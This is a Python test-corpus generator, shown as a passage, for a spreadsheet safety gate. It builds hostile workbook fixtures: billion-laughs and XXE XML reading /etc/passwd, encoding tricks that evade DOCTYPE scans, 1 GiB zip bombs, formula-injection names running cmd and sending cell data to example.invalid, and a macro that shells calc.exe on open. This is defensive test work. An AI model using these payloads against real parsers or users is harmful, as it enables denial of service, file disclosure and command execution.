"""Generate the corpus of bad (and a few good) workbook files for the safety gate's tests.

Nothing binary is committed: every file is built here, by code, deterministically (the same
bytes on every run; see ``encrypted.xlsx`` for how the encryption's random salt is pinned).

Usage::

    python tests/corpus/make_corpus.py OUT_FOLDER      # writes the files, prints their names

or, from a test::

    files = make_corpus(tmp_path)                     # {"empty.xlsx": Path(...), ...}

The expected outcome of each file is in ``expected.yaml`` next to this script.

How the binary files are made:

* real workbooks come from xlsxwriter (which writes fixed zip timestamps, 1980-01-01, and is
  given a fixed creation date), then members are replaced or added with :func:`_rezip`;
* OLE2 / Compound File Binary files (the old ``.xls`` and the ``vbaProject.bin``) come from
  :func:`cfb`, a minimal CFB version 3 writer below: olefile can read but not create compound
  files. Every stream is padded to at least 4096 bytes so that it lives in ordinary 512-byte
  sectors and no "mini stream" is needed. ``biff.xlsx`` holds a ``Workbook`` stream with a
  BIFF8 BOF record, a BOUNDSHEET record and an EOF record: structurally an Excel 97-2003 file
  (what the gate and olefile look at), though not a complete workbook Excel would open;
* ``encrypted.xlsx`` is a real xlsx encrypted with msoffcrypto-tool's documented API
  (``OOXMLFile(f).encrypt(password, outfile)``, ECMA-376 Agile encryption, password "secret");
* the zip bombs are written by :func:`_raw_zip`, a small zip writer that takes members already
  compressed: 1 GiB of zeros is never held in memory or even compressed whole. One megabyte of
  zeros is deflated once and ended with a *full flush*, which resets the compressor's history,
  so the same compressed bytes can be repeated 1024 times to make a valid 1 GiB deflate stream.
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path

_FIXED_DATE = (1980, 1, 1, 0, 0, 0)
_MiB = 1024 * 1024


# --------------------------------------------------------------------------------------------
# Real workbooks
# --------------------------------------------------------------------------------------------


def small_xlsx(sheets: tuple[str, ...] = ("Cover", "Unit 1"), rows: int = 12,
               vba_project: bytes | None = None) -> bytes:
    """A small real workbook from xlsxwriter, with shared strings, a date and a formula.

    With ``vba_project`` it is an .xlsm: xlsxwriter adds ``xl/vbaProject.bin``, its relationship
    and the macro-enabled content types.
    """
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    wb.set_properties({"created": datetime(2024, 1, 1), "author": "corpus"})
    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    for name in sheets:
        ws = wb.add_worksheet(name)
        ws.write_row(0, 0, ["Ref", "Assessment criterion", "Decision", "Assessor date"])
        for r in range(1, rows + 1):
            ws.write_string(r, 0, f"K1.{r}")
            ws.write_string(r, 1, f"Explain principle number {r} of customer service")
            ws.write_string(r, 2, "Met" if r % 2 else "Not yet met")
            ws.write_datetime(r, 3, datetime(2024, 3, r % 28 + 1), date_fmt)
        ws.write_formula(rows + 1, 2, f'=COUNTIF(C2:C{rows + 1},"Met")')
    if vba_project is not None:
        wb.add_vba_project(io.BytesIO(vba_project), is_stream=True)
    wb.close()
    return buf.getvalue()


def _rezip(src: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """Copy a zip, replacing some members' contents and appending others (fixed timestamps)."""
    replace = replace or {}
    add = add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info.filename))
            zout.writestr(zipfile.ZipInfo(info.filename, _FIXED_DATE), data, zipfile.ZIP_DEFLATED)
        for name, data in add.items():
            zout.writestr(zipfile.ZipInfo(name, _FIXED_DATE), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --------------------------------------------------------------------------------------------
# A minimal Compound File Binary (OLE2) writer
# --------------------------------------------------------------------------------------------

_ENDOFCHAIN = 0xFFFFFFFE
_FREESECT = 0xFFFFFFFF
_FATSECT = 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF
_SECTOR = 512
_MINI_CUTOFF = 4096


def cfb(streams: dict[str, bytes]) -> bytes:
    """A CFB v3 file (MS-CFB) holding the given top-level streams.

    Layout: header, one FAT sector, the directory sectors, then each stream's sectors. Streams
    shorter than 4096 bytes are padded with zeros to 4096 (shorter ones would have to go in the
    mini stream). The directory's red-black tree is written as a balanced binary tree of black
    nodes, ordered as the format requires (shorter names first, then by upper-case name), which
    is what readers rely on.
    """
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    payloads = [streams[n].ljust(_MINI_CUTOFF, b"\0") for n in names]
    n_entries = 1 + len(names)
    dir_sectors = -(-n_entries * 128 // _SECTOR)
    fat: list[int] = [_FATSECT]
    for k in range(dir_sectors):
        fat.append(1 + k + 1 if k < dir_sectors - 1 else _ENDOFCHAIN)
    starts: list[int] = []
    body = bytearray()
    for data in payloads:
        n = -(-len(data) // _SECTOR)
        start = len(fat)
        starts.append(start)
        fat.extend(start + k + 1 if k < n - 1 else _ENDOFCHAIN for k in range(n))
        body += data.ljust(n * _SECTOR, b"\0")
    if len(fat) > _SECTOR // 4:
        raise ValueError("cfb(): more than one FAT sector is not supported")
    fat.extend([_FREESECT] * (_SECTOR // 4 - len(fat)))

    left = [_NOSTREAM] * len(names)
    right = [_NOSTREAM] * len(names)

    def tree(lo: int, hi: int) -> int:
        if lo >= hi:
            return _NOSTREAM
        mid = (lo + hi) // 2
        left[mid] = tree(lo, mid)
        right[mid] = tree(mid + 1, hi)
        return mid + 1  # directory index: entry 0 is the root

    root_child = tree(0, len(names))

    def entry(name: str, kind: int, l: int, r: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le")
        name_len = len(raw) + 2 if name else 0  # in bytes, with the terminating NUL
        return struct.pack(
            "<64sHBBLLL16sLQQLLL", raw, name_len, kind, 1 if name else 0, l, r, child, b"\0" * 16,
            0, 0, 0, start, size, 0,
        )

    directory = bytearray(entry("Root Entry", 5, _NOSTREAM, _NOSTREAM, root_child, _ENDOFCHAIN, 0))
    for i, name in enumerate(names):
        directory += entry(name, 2, left[i] + 1 if left[i] != _NOSTREAM else _NOSTREAM,
                           right[i] + 1 if right[i] != _NOSTREAM else _NOSTREAM,
                           _NOSTREAM, starts[i], len(payloads[i]))
    unused = entry("", 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, 0, 0)  # a free directory slot
    while len(directory) < dir_sectors * _SECTOR:
        directory += unused

    header = struct.pack(
        "<8s16sHHHHH6sLLLLLLLLL",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16,
        0x003E, 0x0003, 0xFFFE, 9, 6, b"\0" * 6,
        0,  # number of directory sectors: always 0 in version 3
        1,  # number of FAT sectors
        1,  # first directory sector
        0,  # transaction signature
        _MINI_CUTOFF,
        _ENDOFCHAIN, 0,  # no mini FAT
        _ENDOFCHAIN, 0,  # no DIFAT sectors beyond the header's 109 entries
    ) + struct.pack("<109L", 0, *([_FREESECT] * 108))
    assert len(header) == _SECTOR
    return header + struct.pack(f"<{_SECTOR // 4}L", *fat) + bytes(directory) + bytes(body)


def _biff_record(rtype: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


def biff8_workbook_stream() -> bytes:
    """A BIFF8 globals substream: BOF (workbook globals, Excel 97), BOUNDSHEET "Sheet1", EOF."""
    bof = _biff_record(0x0809, struct.pack("<HHHHLL", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x000100C1, 0x00000406))
    name = "Sheet1".encode("latin-1")
    boundsheet = _biff_record(0x0085, struct.pack("<LBBBB", 0, 0, 0, len(name), 0) + name)
    return bof + boundsheet + _biff_record(0x000A)


# --------------------------------------------------------------------------------------------
# A zip writer for members that are already compressed (the bombs)
# --------------------------------------------------------------------------------------------


#: (name, compressed-data chunks, CRC-32, declared size, method)
RawMember = tuple[str, Callable[[], Iterator[bytes]], int, int, int]


def _raw_zip(members: list[RawMember]) -> bytes:
    """A zip from (name, compressed-data chunks, CRC-32, declared size, method) members.

    Only what Office files use: no Zip64 (sizes below 4 GiB), fixed timestamps.
    """
    out = io.BytesIO()
    central = bytearray()
    dos_time, dos_date = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00
    for name, chunks, crc, size, method in members:
        raw_name = name.encode("ascii")
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, dos_time, dos_date,
                              crc, 0, size, len(raw_name), 0) + raw_name)
        start = out.tell()
        for piece in chunks():
            out.write(piece)
        csize = out.tell() - start
        out.seek(offset + 18)
        out.write(struct.pack("<L", csize))  # patch the compressed size into the local header
        out.seek(0, io.SEEK_END)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, dos_time, dos_date,
                               crc, csize, size, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name
    cd_offset = out.tell()
    out.write(central)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                          len(central), cd_offset, 0))
    return out.getvalue()


def _deflated_members_of(xlsx: bytes) -> list[RawMember]:
    """The members of a real zip, recompressed as raw deflate, ready for :func:`_raw_zip`."""
    members: list[RawMember] = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for info in z.infolist():
            data = z.read(info)
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = c.compress(data) + c.flush()

            def chunks(comp: bytes = comp) -> Iterator[bytes]:
                yield comp

            members.append((info.filename, chunks, zlib.crc32(data), len(data), 8))
    return members


def _zeros_member(name: str, total: int, declared: int | None = None,
                  crc_of: int | None = None) -> RawMember:
    """A deflated member of ``total`` zero bytes, made from one compressed megabyte repeated.

    ``declared`` lies about the size when given; the CRC is that of the first ``crc_of`` bytes
    (default: all of them), so a lying member can still pass a reader that stops early.
    """
    block = _MiB
    assert total % block == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends the block and empties the compressor's history, so compressing the next
    # megabyte of zeros from this state gives the very same bytes: the block can be repeated.
    one = c.compress(b"\0" * block) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(b"\0" * block) + c.flush(zlib.Z_FULL_FLUSH)
    assert one == again
    tail = c.flush(zlib.Z_FINISH)  # the final (empty) block
    count = total // block

    def chunks() -> Iterator[bytes]:
        for _ in range(count):
            yield one
        yield tail

    n = total if crc_of is None else crc_of
    crc = 0
    zero_mib = b"\0" * block
    while n >= block:
        crc = zlib.crc32(zero_mib, crc)
        n -= block
    crc = zlib.crc32(b"\0" * n, crc)
    return (name, chunks, crc, total if declared is None else declared, 8)


# --------------------------------------------------------------------------------------------
# Hostile XML
# --------------------------------------------------------------------------------------------

_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

BILLION_LAUGHS_SST = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE sst [\n'
    ' <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n'
    f'<sst xmlns="{_MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
).encode()

XXE_SHEET = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<worksheet xmlns="{_MAIN_NS}"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    '</sheetData></worksheet>'
).encode()

HUGE_ROWS_SHEET = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f'<worksheet xmlns="{_MAIN_NS}"><dimension ref="A1:A1048576"/><sheetData>'
    '<row r="1"><c r="A1"><v>1</v></c></row>'
    '<row r="1048576"><c r="A1048576"><v>2</v></c></row>'
    '</sheetData></worksheet>'
).encode()

# The same DOCTYPE, but the part is UTF-16: a byte scan for "<!DOCTYPE" in UTF-8 would miss it.
UTF16_DOCTYPE_SHEET = (
    '\ufeff<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\n'
    '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>\n'
    f'<worksheet xmlns="{_MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t>'
    '</is></c></row></sheetData></worksheet>'
).encode("utf-16-le")  # with the BOM above: the same bytes on every platform

# UTF-7 spells "<" as "+ADw-": the declaration makes a parser decode markers a byte scan misses.
UTF7_SHEET = (
    b'<?xml version="1.0" encoding="UTF-7"?>'
    b'+ADw-+ACE-DOCTYPE worksheet +AFs-+ADw-+ACE-ENTITY a +ACI-aaaa+ACI-+AD4-+AF0-+AD4-'
    b'<worksheet xmlns="' + _MAIN_NS.encode() + b'"><sheetData/></worksheet>'
)


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------


@contextmanager
def _pinned_randomness(seed: int) -> Iterator[None]:
    """Make msoffcrypto's output repeatable, for a byte-identical encrypted.xlsx.

    msoffcrypto draws salts and keys from ``msoffcrypto.method.ecma376_agile._random_buffer``
    and stamps the container's directory with ``datetime.now()`` through
    ``msoffcrypto.method.container.ecma376_encrypted.datetime2filetime``. For test data (never
    for real secrets) both are replaced for the duration: a seeded generator, a fixed time. If a
    future msoffcrypto moves them, the file is still valid, only no longer byte-identical.
    """
    patches: list[tuple[object, str, object]] = []
    try:
        from msoffcrypto.method import ecma376_agile
        from msoffcrypto.method.container import ecma376_encrypted
    except ImportError:  # pragma: no cover
        yield
        return
    rng = random.Random(seed)
    fixed_filetime = 132_539_328_000_000_000  # 2021-01-01 00:00 UTC, in 100 ns since 1601
    for module, attr, value in (
        (ecma376_agile, "_random_buffer", lambda size: rng.randbytes(size)),
        (ecma376_encrypted, "datetime2filetime", lambda dt: fixed_filetime),
    ):
        if hasattr(module, attr):
            patches.append((module, attr, getattr(module, attr)))
            setattr(module, attr, value)
    try:
        yield
    finally:
        for module, attr, original in reversed(patches):
            setattr(module, attr, original)


def encrypt_xlsx(xlsx: bytes, password: str) -> bytes:
    """``xlsx`` encrypted with ``password`` by msoffcrypto-tool (ECMA-376 Agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with _pinned_randomness(1234):
        OOXMLFile(io.BytesIO(xlsx)).encrypt(password, out)
    return out.getvalue()


def minimal_ods() -> bytes:
    """A minimal real OpenDocument spreadsheet: ``mimetype`` first and stored, then the rest."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype", _FIXED_DATE), "application/vnd.oasis.opendocument.spreadsheet",
                   zipfile.ZIP_STORED)
        z.writestr(zipfile.ZipInfo("META-INF/manifest.xml", _FIXED_DATE), (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            '</manifest:manifest>'), zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo("content.xml", _FIXED_DATE), (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            '<office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-row>'
            '<table:table-cell office:value-type="string"><text:p>Ref</text:p></table:table-cell>'
            '</table:table-row></table:table></office:spreadsheet></office:body>'
            '</office:document-content>'), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _plain_zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name, _FIXED_DATE), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _with_missing_sheet(xlsx: bytes) -> bytes:
    """The workbook still lists "Unit 1", but its part was deleted from the zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet2.xml":
                zout.writestr(zipfile.ZipInfo(info.filename, _FIXED_DATE), zin.read(info), zipfile.ZIP_DEFLATED)
    return out.getvalue()



# --------------------------------------------------------------------------------------------
# Learner workbooks with bad content (valid xlsx files: the gate lets them through, the reader
# and the checks must say what is wrong, or find nothing wrong)
# --------------------------------------------------------------------------------------------

#: every learner workbook in the corpus is made from this record, then edited
LEARNER_NAME = "Jo Bloggs"
LEARNER_ULN = "1000000043"
_WORKBOOK_ID = "00000000-0000-4000-8000-00000000c0de"
_CREATED = datetime(2024, 9, 2, 9, 0, 0)
_SAVED = "2024-10-07T12:00:00Z"  # the "modified" time stamped into files openpyxl saves
_L2 = "603/4687/5"

#: Where the writer puts things in the unit sheets and on the cover (checked by
#: test_bad_inputs.py against tracker.workbook.layout, so a layout change fails loudly there).
UNIT1_SHEET = "Unit 1"
UNIT1_PART = "xl/worksheets/sheet3.xml"  # Cover, Summary, Unit 1, ...
COVER_PART = "xl/worksheets/sheet1.xml"
UNIT_HEADER_ROW = 11
UNIT1_FIRST_ROW = 12  # K1.1; K1.2 and K1.3 follow
COLUMN = {"evidence_date": "F", "decision": "G", "assessor": "H", "assessor_date": "I", "comments": "N"}
COVER_NAME_CELL = "B3"

#: names that a spreadsheet would run as formulas if written as formulas (CSV/formula injection)
INJECTION_NAMES = {
    "name_equals.xlsx": "=HYPERLINK(\"http://example.invalid/x?\"&A1,\"Click me\")",
    "name_plus.xlsx": "+cmd|' /C calc'!A0",
    "name_minus.xlsx": "-2+3+cmd|' /C calc'!A0",
    "name_at.xlsx": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NON_LATIN = {
    "name": "Ελένη Παπαδοπούλου",
    "assessor": "Иван Петров",
    "iqa": "محمد علي",
    "tutor": "王小明",
    "employer": "Café ☕ 🎉 Ltd",
}


def learner_uln(n: int) -> str:
    """The n-th valid ULN of the corpus (n = 0 is LEARNER_ULN's family: 100000001x)."""
    from tracker.identifiers import uln_check_digit

    k = 0
    while True:
        first_nine = f"1{n:04d}{k:04d}"
        digit = uln_check_digit(first_nine)
        if digit is not None and digit < 10:
            return first_nine + str(digit)
        k += 1


def learner_record(name: str = LEARNER_NAME, assessor: str = "Sam Assessor", iqa: str = "Ivy Quality",
                   tutor: str = "Tom Tutor", employer: str = "Castle Motors", uln: str = LEARNER_ULN) -> object:
    """A Level 2 learner with units 1 and 2 signed off (8 criteria Met) and an evidence log."""
    from datetime import date

    from tracker.spec.catalogue import load_qualification
    from tracker.workbook.model import CriterionEntry, EvidenceEntry, Learner, LearnerRecord

    q = load_qualification(_L2)
    entries = {}
    evidence = []
    n = 0
    for unit in q.units[:2]:
        for c in unit.criteria:
            n += 1
            entries[c.ref] = CriterionEntry(
                evidence_refs=(f"E{n}",), method="Worksheet", evidence_date=date(2024, 10, 1),
                decision="Met", assessor=assessor, assessor_date=date(2024, 10, 5))
            evidence.append(EvidenceEntry(ref=f"E{n}", description=f"Worksheet {n}", method="Worksheet",
                                          date=date(2024, 10, 1), location=f"Portfolio p.{n}"))
    learner = Learner(name=name, uln=uln, pathway="face-to-face", registration_date=date(2024, 9, 2),
                      assessor=assessor, iqa=iqa, tutor=tutor, employer=employer)
    return LearnerRecord(learner, entries, tuple(evidence))


def learner_xlsx(number: int = 0, **names: str) -> bytes:
    """A real learner workbook from :func:`tracker.workbook.writer.new_workbook`, always the same bytes.

    ``number`` 0 is the learner Jo Bloggs (ULN 1000000043) whose workbook most cases edit; any
    other number gives a different learner: their own ULN (:func:`learner_uln`) and workbook id.
    """
    import tempfile

    from tracker.spec.catalogue import load_qualification
    from tracker.workbook.writer import new_workbook

    with tempfile.TemporaryDirectory() as d:
        uln = LEARNER_ULN if number == 0 else learner_uln(number)
        workbook_id = _WORKBOOK_ID if number == 0 else f"00000000-0000-4000-8000-{number:012d}"
        path = new_workbook(load_qualification(_L2), learner_record(uln=uln, **names),  # type: ignore[arg-type]
                            Path(d) / "learner.xlsx", workbook_id=workbook_id, created=_CREATED)
        return path.read_bytes()


def _members(xlsx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def _zip_of(members: dict[str, bytes]) -> bytes:
    return _plain_zip(members)


def _edit_parts(xlsx: bytes, **edits: Callable[[str], str]) -> bytes:
    """Rewrite some XML parts (keyword: the part name with "/" as "__" and "." as "_")."""
    members = _members(xlsx)
    by_key = {name.replace("/", "__").replace(".", "_"): name for name in members}
    for key, edit in edits.items():
        name = by_key[key]
        members[name] = edit(members[name].decode("utf-8")).encode("utf-8")
    return _zip_of(members)


def _col_number(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n


_CELL_RE = re.compile(r'<c r="([A-Z]+)(\d+)"[^>]*?(?:/>|>.*?</c>)', re.S)


def set_cell(sheet_xml: str, ref: str, cell_xml: str) -> str:
    """Put ``cell_xml`` (a whole ``<c r="ref" ...>`` element) at ``ref``, replacing what is there.

    The row must exist (every row of a written table does); cells stay in column order.
    """
    m = re.fullmatch(r"([A-Z]+)(\d+)", ref)
    assert m is not None
    row_num = m.group(2)
    row_re = re.compile(rf'(<row r="{row_num}"[^>]*>)(.*?)(</row>)', re.S)
    row = row_re.search(sheet_xml)
    assert row is not None, f"row {row_num} not in the sheet"
    cells = [(c.group(1), c.group(0)) for c in _CELL_RE.finditer(row.group(2)) if c.group(1) != m.group(1)]
    cells.append((m.group(1), cell_xml))
    cells.sort(key=lambda c: _col_number(c[0]))
    return sheet_xml[: row.start(2)] + "".join(x for _, x in cells) + sheet_xml[row.end(2):]


def _inline(ref: str, text: str, style: str = "16") -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" s="{style}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _with_openpyxl(xlsx: bytes, edit: Callable[[object], None] | None = None) -> bytes:
    """Load ``xlsx`` with openpyxl, apply ``edit`` to the workbook, save: the file an openpyxl
    script would leave (formulas kept, their cached values dropped). Time stamps are pinned."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    if edit is not None:
        edit(wb)
    out = io.BytesIO()
    wb.save(out)
    members = _members(out.getvalue())
    members["docProps/core.xml"] = re.sub(
        rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)", rb"\g<1>" + _SAVED.encode() + rb"\g<2>",
        members["docProps/core.xml"])
    return _zip_of(members)


def _rename_sheet(workbook_xml: str, old: str, new: str) -> str:
    """Rename a sheet in workbook.xml, with the defined names (print titles) that refer to it."""
    from xml.sax.saxutils import escape

    old_q, new_q = f"'{old}'!", "'" + new.replace("'", "''") + "'!"
    out = workbook_xml.replace(f'<sheet name="{escape(old)}"', f'<sheet name="{escape(new, {chr(34): "&quot;"})}"')
    return out.replace(escape(old_q, {"'": "&apos;"}), escape(new_q, {"'": "&apos;"})).replace(old_q, new_q)


def _delete_unit2(wb: object) -> None:
    del wb["Unit 2"]  # type: ignore[index]


def _merge_across_table(wb: object) -> None:
    # What a user does to make a note fit: merge from the criterion text across the whole table.
    wb[UNIT1_SHEET].merge_cells(f"B{UNIT1_FIRST_ROW + 1}:N{UNIT1_FIRST_ROW + 2}")  # type: ignore[index]


def _copy_unit1_before_itself(wb: object) -> None:
    # Excel's Move or Copy puts the copy before the original; on the copy K1.1 is "Not yet met".
    original = wb[UNIT1_SHEET]  # type: ignore[index]
    copy = wb.copy_worksheet(original)  # type: ignore[attr-defined]
    copy.title = f"{UNIT1_SHEET} (2)"
    wb.move_sheet(copy, offset=wb.index(original) - wb.index(copy))  # type: ignore[attr-defined]
    copy[f"{COLUMN['decision']}{UNIT1_FIRST_ROW}"].value = "Not yet met"


def _decision_header_twice(wb: object) -> None:
    # A hidden column headed Decision right of the table (column R), holding "Met" for K1.1.
    ws = wb[UNIT1_SHEET]  # type: ignore[index]
    ws[f"R{UNIT_HEADER_ROW}"].value = "Decision"
    ws[f"R{UNIT1_FIRST_ROW}"].value = "Met"
    ws.column_dimensions["R"].hidden = True


def macro_project() -> bytes:
    """A real (source-only) VBA project whose Workbook_Open would start a program: never run."""
    from tracker.addin.ovba import WORKBOOK_BASE, Module, build_vba_project

    this = Module.document("ThisWorkbook", WORKBOOK_BASE, code=(
        "Private Sub Workbook_Open()\n"
        "    Shell \"calc.exe\", vbNormalFocus\n"
        "End Sub\n"))
    return build_vba_project([this], project_name="VBAProject")


def _add_macros(xlsx: bytes) -> bytes:
    """Make a learner workbook an .xlsm: vbaProject.bin, its relationship and content types."""
    members = _members(xlsx)
    members["xl/vbaProject.bin"] = macro_project()
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    rels = rels.replace("</Relationships>", (
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>'))
    members["xl/_rels/workbook.xml.rels"] = rels.encode()
    types = members["[Content_Types].xml"].decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace('<Default Extension="xml"', (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"'))
    members["[Content_Types].xml"] = types.encode()
    wbx = members["xl/workbook.xml"].decode()
    wbx = re.sub(r"<workbookPr([^>]*?)/>", r'<workbookPr codeName="ThisWorkbook"\1/>', wbx, count=1)
    members["xl/workbook.xml"] = wbx.encode()
    return _zip_of(members)


def learner_corpus() -> dict[str, bytes]:
    """The workbook-level cases: real learner workbooks, edited."""
    base = learner_xlsx()
    r = UNIT1_FIRST_ROW
    col = COLUMN
    files: dict[str, bytes] = {}
    files["learner_good.xlsx"] = base
    files["unit_sheet_deleted.xlsx"] = _with_openpyxl(base, _delete_unit2)
    files["unit_sheet_renamed.xlsx"] = _edit_parts(
        base, xl__workbook_xml=lambda x: _rename_sheet(x, "Unit 2", "Customer service (2)"))
    files["header_edited.xlsx"] = _edit_parts(
        base, **{UNIT1_PART.replace("/", "__").replace(".", "_"):
                 lambda x: set_cell(x, f"{col['decision']}{UNIT_HEADER_ROW}",
                                    _inline(f"{col['decision']}{UNIT_HEADER_ROW}", "Outcome", "9"))})
    files["merged_cells.xlsx"] = _with_openpyxl(base, _merge_across_table)
    files["unit_sheet_copied.xlsx"] = _with_openpyxl(base, _copy_unit1_before_itself)
    files["header_twice.xlsx"] = _with_openpyxl(base, _decision_header_twice)

    def text_dates(x: str) -> str:
        x = set_cell(x, f"{col['evidence_date']}{r}", _inline(f"{col['evidence_date']}{r}", "last Tuesday", "17"))
        x = set_cell(x, f"{col['assessor_date']}{r}", _inline(f"{col['assessor_date']}{r}", "31/02/2024", "17"))
        return set_cell(x, f"{col['assessor_date']}{r + 1}", _inline(f"{col['assessor_date']}{r + 1}", "TBC", "17"))

    def error_cells(x: str) -> str:
        f, g, i = col["evidence_date"], col["decision"], col["assessor_date"]
        x = set_cell(x, f"{f}{r}", f'<c r="{f}{r}" s="17" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
        x = set_cell(x, f"{g}{r}", f'<c r="{g}{r}" s="16" t="e"><f>#REF!</f><v>#REF!</v></c>')
        return set_cell(x, f"{i}{r + 1}", f'<c r="{i}{r + 1}" s="17" t="e"><f>DATEVALUE("soon")</f><v>#VALUE!</v></c>')

    def formulas(x: str) -> str:
        f, g, n = col["evidence_date"], col["decision"], col["comments"]
        # =TODAY() with a cached date, as Excel saves it; =A1 in Decision (cached: the sheet title);
        # a link whose cached text is all a reader may see.
        x = set_cell(x, f"{f}{r}", f'<c r="{f}{r}" s="17"><f>TODAY()</f><v>45570</v></c>')
        x = set_cell(x, f"{g}{r}", f'<c r="{g}{r}" s="16" t="str"><f>A1</f><v>Unit 1</v></c>')
        x = set_cell(x, f"{n}{r}", (
            f'<c r="{n}{r}" s="16" t="str"><f>HYPERLINK("http://example.invalid/","see notes")</f>'
            '<v>see notes</v></c>'))
        # =TODAY() without a cached value (as openpyxl or a script writes it): a blank to a reader.
        return set_cell(x, f"{f}{r + 1}", f'<c r="{f}{r + 1}" s="17"><f>TODAY()</f></c>')

    unit1 = UNIT1_PART.replace("/", "__").replace(".", "_")
    files["text_in_dates.xlsx"] = _edit_parts(base, **{unit1: text_dates})
    files["error_cells.xlsx"] = _edit_parts(base, **{unit1: error_cells})
    files["formulas_as_values.xlsx"] = _edit_parts(base, **{unit1: formulas})
    for number, (name, text) in enumerate(INJECTION_NAMES.items(), start=1):
        files[name] = learner_xlsx(number, name=text)
    # The name typed as a real formula in Excel: only its cached result is ever read.
    files["name_real_formula.xlsx"] = _edit_parts(learner_xlsx(5), **{COVER_PART.replace("/", "__").replace(".", "_"): (
        lambda x: set_cell(x, COVER_NAME_CELL, (
            f'<c r="{COVER_NAME_CELL}" s="4" t="str"><f>HYPERLINK("http://example.invalid/",'
            f'"{LEARNER_NAME}")&amp;""</f><v>{LEARNER_NAME}</v></c>')))})
    files["non_latin.xlsx"] = _edit_parts(
